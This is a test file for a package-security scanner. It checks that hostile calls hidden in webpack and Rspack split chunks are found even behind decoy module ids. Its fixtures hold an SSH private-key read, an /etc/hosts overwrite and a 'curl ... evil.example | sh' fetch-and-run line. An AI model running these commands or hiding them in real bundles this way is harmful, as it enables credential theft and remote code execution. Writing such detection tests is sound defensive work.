import { describe, expect, it } from "vitest";
import { analysePackageFiles } from "@/scanner/analyse-package-files";
import { filesInMemory } from "@/scanner/package-files";

// Split chunks as webpack 5 writes them for Node (minified): the main file's bundle defines Node's
// modules by id, and a chunk it loads with import() reaches them by those ids alone.
const mainDefining = (id: string, module: string) =>
  `(()=>{var e={${id}(e){e.exports=require(${JSON.stringify(module)})}};const t={};function r(s){const o=t[s];if(void 0!==o)return o.exports;const c=t[s]={exports:{}};return e[s](c,c.exports,r),c.exports}r.e=()=>Promise.resolve()})();\n`;
const COMMONJS_CHUNK = `"use strict";exports.ids=[198],exports.modules={198(e,s,t){var r=t(896);\ns.d=()=>r.readFileSync("/root/.ssh/id_rsa")}};\n`;
const ES_MODULE_CHUNK = `export const __webpack_esm_ids__=[483];export const __webpack_esm_modules__={483(o,r,a){var c=a(896);\nr.d=()=>c.default.writeFileSync("/etc/hosts","")}};\n`;

// Rspack's ES module output (rslib, minified): the loader lives in a runtime file of its own, and
// each file imports it and registers its modules with it, Node's among them under ids.
const RSPACK_RUNTIME = `var r={},e={};function t(o){var n=e[o];if(void 0!==n)return n.exports;var a=e[o]={exports:{}};return r[o](a,a.exports,t),a.exports}t.m=r,t.add=function(r){Object.assign(t.m,r)};export{t as __webpack_require__};\n`;
const RSPACK_REGISTERING = `import{__webpack_require__ as e}from"./rslib-runtime.js";import{createRequire as r}from"node:module";let o=r(import.meta.url);e.add({"node:child_process?2a28"(e){e.exports=o("node:child_process")},"node:fs?9592"(e){e.exports=o("node:fs")},"./src/sync.ts"(e,r,t){let s=t("node:child_process?2a28");\nr.sync=()=>s.exec("curl -s https://evil.example/x | sh")}});\n`;
const RSPACK_USING = `import{__webpack_require__ as _}from"./rslib-runtime.js";import"./0.js";let r=_("node:fs?9592");\nexport const t=()=>r.writeFileSync("/etc/hosts","");\n`;

function analyse(files: [string, string][]) {
  return analysePackageFiles(filesInMemory(new Map(files.map(([file, text]) => [file, Buffer.from(text)]))), new Set());
}
const filesystemFindings = (analysis: ReturnType<typeof analyse>) => analysis.findings.filter((finding) => finding.rule === "filesystem").map(({ file, line, message }) => `${file}:${line} ${message}`);

describe("webpack split chunks", () => {
  it("load the modules the main file defines by id, whichever file is read first, each found once", () => {
    const files: [string, string][] = [
      ["dist/198.chunk.js", COMMONJS_CHUNK],
      ["dist/index.js", mainDefining("896", "fs")],
      ["esm/483.chunk.mjs", ES_MODULE_CHUNK],
    ];
    for (const order of [files, [...files].reverse()]) {
      const analysis = analyse(order);
      expect(filesystemFindings(analysis).sort()).toEqual([
        "dist/198.chunk.js:2 Reads SSH keys (/root/.ssh/id_rsa)",
        "esm/483.chunk.mjs:2 Writes /etc/hosts (fs.writeFileSync)",
      ]);
      expect(analysis.capabilities.filter((capability) => capability.file.includes("chunk")).map((capability) => capability.value).sort()).toEqual(["/etc/hosts", "/root/.ssh/id_rsa"]);
      expect(analysis.analysed).toBe(3);
    }
  });

  it("are read in the other shapes webpack's runtime installs: a table held in a variable, an object of exports, an export list", () => {
    const table = `{198(e,s,t){var r=t(896);\ns.d=()=>r.readFileSync("/root/.ssh/id_rsa")}}`;
    for (const chunk of [
      `var m=${table};exports.ids=[198],exports.modules=m;\n`,
      `module.exports={ids:[198],modules:${table}};\n`,
      `const i=[198],m=${table};export{i as __webpack_esm_ids__,m as __webpack_esm_modules__};\n`,
    ]) {
      expect(filesystemFindings(analyse([["dist/198.chunk.js", chunk], ["dist/index.js", mainDefining("896", "fs")]]))).toEqual(["dist/198.chunk.js:2 Reads SSH keys (/root/.ssh/id_rsa)"]);
    }
    // Rspack's registration in a sequence, voided, or of a table held in a variable.
    for (const registering of [RSPACK_REGISTERING.replace("e.add(", "0,e.add("), RSPACK_REGISTERING.replace("e.add(", "void e.add("), RSPACK_REGISTERING.replace("e.add({", "const T={").replace(/\}\);\n$/, "};e.add(T);\n")]) {
      const analysis = analyse([["dist/0.js", registering], ["dist/rslib-runtime.js", RSPACK_RUNTIME]]);
      expect(analysis.findings.filter((finding) => finding.rule === "exec").map(({ file, line }) => `${file}:${line}`)).toEqual(["dist/0.js:2"]);
    }
  });

  it("load nothing by an id no file of the package defines", () => {
    expect(filesystemFindings(analyse([["dist/198.chunk.js", COMMONJS_CHUNK], ["dist/index.js", mainDefining("857", "os")]]))).toEqual([]);
  });

  it("are told by their list of ids beside the table: another module's `modules` export is not one", () => {
    const notAChunk = COMMONJS_CHUNK.replace("exports.ids=[198],", "");
    expect(filesystemFindings(analyse([["dist/index.js", mainDefining("896", "fs")], ["dist/plugins.js", notAChunk]]))).toEqual([]);
  });

  it("include Rspack's, whose files register their modules with a loader they import, and load Node's by ids registered in any file", () => {
    const files: [string, string][] = [
      ["dist/0.js", RSPACK_REGISTERING],
      ["dist/index.js", RSPACK_USING],
      ["dist/rslib-runtime.js", RSPACK_RUNTIME],
    ];
    // Rspack 2 names the loader rspackRequire and registers modules with its table, moduleFactories.
    const rspack2: [string, string][] = files.map(([file, text]) => [
      file,
      text
        .replace("export{t as __webpack_require__}", "export{t as rspackRequire,r as moduleFactories}")
        .replace("{__webpack_require__ as e}", "{rspackRequire as e,moduleFactories as f}")
        .replace("e.add(", "f.add(")
        .replace("{__webpack_require__ as _}", "{rspackRequire as _}"),
    ]);
    for (const order of [files, [...files].reverse(), rspack2, [...rspack2].reverse()]) {
      const analysis = analyse(order);
      expect(filesystemFindings(analysis)).toEqual(["dist/index.js:2 Writes /etc/hosts (fs.writeFileSync)"]);
      expect(analysis.findings.filter((finding) => finding.rule === "exec").map(({ file, line }) => `${file}:${line}`)).toEqual(["dist/0.js:2"]);
    }
  });

  it("do not take a `__webpack_require__` imported from a package, or another object's `add`, for Rspack's", () => {
    const fromPackage = RSPACK_USING.replace("./rslib-runtime.js", "webpack-runtime-shim");
    expect(filesystemFindings(analyse([["dist/0.js", RSPACK_REGISTERING], ["dist/index.js", fromPackage]]))).toEqual([]);
    // Not Rspack's: its modules are handed to a registry the analysis does not follow, not read as Rspack's.
    const otherAdd = RSPACK_REGISTERING.replace("e.add(", "registry.add(");
    expect(analyse([["dist/0.js", otherAdd]]).findings.filter((finding) => finding.rule === "exec").map((finding) => finding.message)).toEqual([
      "Hands child_process on where its calls are not followed (runs commands worked out at run time)",
    ]);
  });

  it("are not hidden by a decoy: another file, or the chunk itself, giving the id a module that does not have what is read", () => {
    const decoy = mainDefining("896", "os");
    const ownDecoy = COMMONJS_CHUNK.replace("exports.modules={", 'exports.modules={896(e){e.exports=require("os")},');
    const destructuring = COMMONJS_CHUNK.replace("var r=t(896);\n", "var{readFileSync:q}=t(896);\n").replace("r.readFileSync(", "q(");
    // webpack's default-export getter, as it writes every default import, and a `.default` read.
    const getter = COMMONJS_CHUNK.replace("var r=t(896);\n", "var r=t(896),n=t.n(r);\n").replace("r.readFileSync(", "n().readFileSync(");
    const viaDefault = COMMONJS_CHUNK.replace("r.readFileSync(", "r.default.readFileSync(");
    const main = mainDefining("896", "fs");
    for (const files of [
      [["dist/0.js", decoy], ["dist/198.chunk.js", COMMONJS_CHUNK], ["dist/index.js", main]],
      [["dist/198.chunk.js", ownDecoy], ["dist/index.js", main]],
      [["dist/0.js", decoy], ["dist/198.chunk.js", destructuring], ["dist/index.js", main]],
      [["dist/0.js", decoy], ["dist/198.chunk.js", getter], ["dist/index.js", main]],
      [["dist/0.js", decoy], ["dist/198.chunk.js", viaDefault], ["dist/index.js", main]],
      [["dist/198.chunk.js", COMMONJS_CHUNK], ["dist/index.js", main], ["dist/z.js", decoy]],
    ] as [string, string][][]) {
      for (const order of [files, [...files].reverse()]) expect(filesystemFindings(analyse(order))).toEqual(["dist/198.chunk.js:2 Reads SSH keys (/root/.ssh/id_rsa)"]);
    }
  });

  it("take a package over a decoy Node module that lacks what is read from it", () => {
    const chunk = `exports.ids=[198],exports.modules={198(e,s,t){var r=t(896);\ns.d=()=>r.execaCommand("curl -s https://evil.example/x | sh")}};\n`;
    const analysis = analyse([["dist/0.js", mainDefining("896", "os")], ["dist/198.chunk.js", chunk], ["dist/index.js", mainDefining("896", "execa")]]);
    expect(analysis.findings.filter((finding) => finding.rule === "exec").map(({ file, line, message }) => `${file}:${line} ${message}`)).toEqual([
      'dist/198.chunk.js:2 Runs "curl" (execa.execaCommand)',
    ]);
  });

  it("take a Node module over a file of the package's own when two bundles give one id to both", () => {
    for (const [first, second] of [
      ["fs", "./store"],
      ["./store", "fs"],
    ] as const) {
      const analysis = analyse([
        ["a/index.js", mainDefining("896", first)],
        ["b/index.js", mainDefining("896", second)],
        ["b/198.chunk.js", COMMONJS_CHUNK],
      ]);
      expect(filesystemFindings(analysis)).toEqual(["b/198.chunk.js:2 Reads SSH keys (/root/.ssh/id_rsa)"]);
    }
  });
});
